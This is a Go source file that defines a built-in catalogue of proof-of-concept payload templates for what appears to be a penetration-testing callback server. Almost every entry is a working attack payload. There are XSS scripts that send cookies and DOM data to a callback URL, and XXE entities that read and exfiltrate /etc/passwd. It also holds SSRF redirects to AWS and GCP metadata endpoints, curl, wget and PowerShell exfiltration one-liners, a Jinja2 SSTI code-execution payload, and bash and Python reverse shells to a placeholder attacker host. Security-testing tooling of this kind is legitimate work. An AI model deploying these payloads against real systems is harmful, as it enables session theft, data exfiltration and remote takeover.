package rules

// Template is one entry in the built-in PoC catalogue: a ready-made
// rule body the operator instantiates under a token and edits as
// needed. The {{attacker_ip}}/{{attacker_port}} scaffolds in the
// shell entries are meant to be replaced by hand.
type Template struct {
	Name            string `json:"name"`
	Description     string `json:"description"`
	StatusCode      int    `json:"status_code,omitempty"`
	ContentType     string `json:"content_type,omitempty"`
	Body            string `json:"response_body,omitempty"`
	RedirectURL     string `json:"redirect_url,omitempty"`
	EnableVariables bool   `json:"enable_variables,omitempty"`
}

// Catalogue is the built-in PoC template library, keyed by template ID.
// Exfiltrating templates report back through the reserved query
// contract: _exfil=1, _type=<category>, _data=<payload>.
var Catalogue = map[string]Template{
	"xss_basic": {
		Name:        "xss-alert",
		Description: "Basic XSS popup (execution proof only)",
		ContentType: "text/html",
		Body:        "<script>alert(document.domain)</script>",
	},
	"xss_cookie": {
		Name:            "xss-cookie",
		Description:     "XSS cookie exfiltration (proof plus data)",
		ContentType:     "text/html",
		Body:            "<script>new Image().src='{{callback_url}}?_exfil=1&_type=cookie&_data='+encodeURIComponent(document.cookie)+'&domain='+document.domain</script>",
		EnableVariables: true,
	},
	"xss_dom": {
		Name:            "xss-dom",
		Description:     "XSS DOM context exfiltration",
		ContentType:     "text/html",
		Body:            "<script>fetch('{{callback_url}}?_exfil=1&_type=dom&_data='+encodeURIComponent(JSON.stringify({url:location.href,cookie:document.cookie,localStorage:Object.keys(localStorage)})))</script>",
		EnableVariables: true,
	},
	"xxe_dtd": {
		Name:            "xxe-dtd",
		Description:     "XXE out-of-band DTD (file content callback)",
		ContentType:     "application/xml-dtd",
		Body:            "<!ENTITY % data SYSTEM \"file:///etc/passwd\">\n<!ENTITY % param1 \"<!ENTITY exfil SYSTEM '{{callback_url}}?_exfil=1&_type=file&_data=%data;'>\">\n%param1;",
		EnableVariables: true,
	},
	"xxe_file": {
		Name:        "xxe-file",
		Description: "XXE inline file read",
		ContentType: "application/xml",
		Body:        "<?xml version=\"1.0\"?>\n<!DOCTYPE foo [\n<!ENTITY xxe SYSTEM \"file:///etc/passwd\">\n]>\n<data>&xxe;</data>",
	},
	"ssrf_aws": {
		Name:        "ssrf-aws",
		Description: "SSRF redirect to AWS metadata",
		RedirectURL: "http://169.254.169.254/latest/meta-data/",
		StatusCode:  302,
	},
	"ssrf_gcp": {
		Name:        "ssrf-gcp",
		Description: "SSRF redirect to GCP metadata",
		RedirectURL: "http://metadata.google.internal/computeMetadata/v1/",
		StatusCode:  302,
	},
	"ssrf_exfil": {
		Name:            "ssrf-exfil",
		Description:     "SSRF data exfiltration via curl",
		ContentType:     "text/plain",
		Body:            "curl '{{callback_url}}?_exfil=1&_type=ssrf&_data='$(cat /etc/passwd | base64 -w0)",
		EnableVariables: true,
	},
	"rce_curl": {
		Name:            "rce-curl",
		Description:     "RCE command output exfiltration via curl",
		ContentType:     "text/plain",
		Body:            "curl '{{callback_url}}?_exfil=1&_type=cmd&_data='$(id | base64 -w0)",
		EnableVariables: true,
	},
	"rce_wget": {
		Name:            "rce-wget",
		Description:     "RCE command output exfiltration via wget",
		ContentType:     "text/plain",
		Body:            "wget -q -O- '{{callback_url}}?_exfil=1&_type=cmd&_data='$(whoami)",
		EnableVariables: true,
	},
	"rce_powershell": {
		Name:            "rce-ps",
		Description:     "RCE PowerShell exfiltration",
		ContentType:     "text/plain",
		Body:            "powershell -c \"IWR '{{callback_url}}?_exfil=1&_type=cmd&_data='+[Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes((whoami)))\"",
		EnableVariables: true,
	},
	"ssti_jinja": {
		Name:            "ssti-jinja",
		Description:     "SSTI Jinja2 RCE exfiltration",
		ContentType:     "text/plain",
		Body:            "{{config.__class__.__init__.__globals__['os'].popen('curl \"{{callback_url}}?_exfil=1&_type=ssti&_data=\"$(id)').read()}}",
		EnableVariables: true,
	},
	"shell_bash": {
		Name:            "shell-bash",
		Description:     "Bash reverse shell (edit attacker host/port)",
		ContentType:     "text/plain",
		Body:            "bash -i >& /dev/tcp/{{attacker_ip}}/{{attacker_port}} 0>&1",
		EnableVariables: true,
	},
	"shell_python": {
		Name:            "shell-python",
		Description:     "Python reverse shell (edit attacker host/port)",
		ContentType:     "text/plain",
		Body:            "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{{attacker_ip}}\",{{attacker_port}}));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call([\"/bin/sh\",\"-i\"])'",
		EnableVariables: true,
	},
}
